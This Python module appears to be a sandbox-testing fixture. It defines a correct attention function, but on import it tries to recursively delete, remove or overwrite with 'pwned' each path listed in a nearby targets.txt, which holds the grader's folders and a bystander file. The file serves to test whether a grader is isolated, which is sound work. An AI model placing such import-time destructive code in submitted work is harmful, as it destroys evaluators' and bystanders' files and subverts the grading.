"""Correct attention; at import it tries to delete and overwrite the files around it.

targets.txt (written by the test beside this file) lists the grader's folders and a bystander file.
"""
import math
import os
import shutil

import torch

HERE = os.path.dirname(os.path.abspath(__file__))
ATTEMPTS = []
try:
    with open(os.path.join(HERE, "targets.txt")) as fh:
        TARGETS = fh.read().split()
except OSError:
    TARGETS = []
for target in TARGETS:
    for action in (lambda t: shutil.rmtree(t), lambda t: os.remove(t),
                   lambda t: open(os.path.join(t, "pwned.txt") if os.path.isdir(t) else t, "w").write("pwned")):
        try:
            action(target)
            ATTEMPTS.append(f"did something to {target}")
        except OSError as exc:
            ATTEMPTS.append(f"{target}: {type(exc).__name__}")
print("\n".join(ATTEMPTS))


def attention(Q, K, V, mask=None):
    scores = Q @ K.transpose(-2, -1) / math.sqrt(Q.size(-1))
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    return torch.softmax(scores, dim=-1) @ V
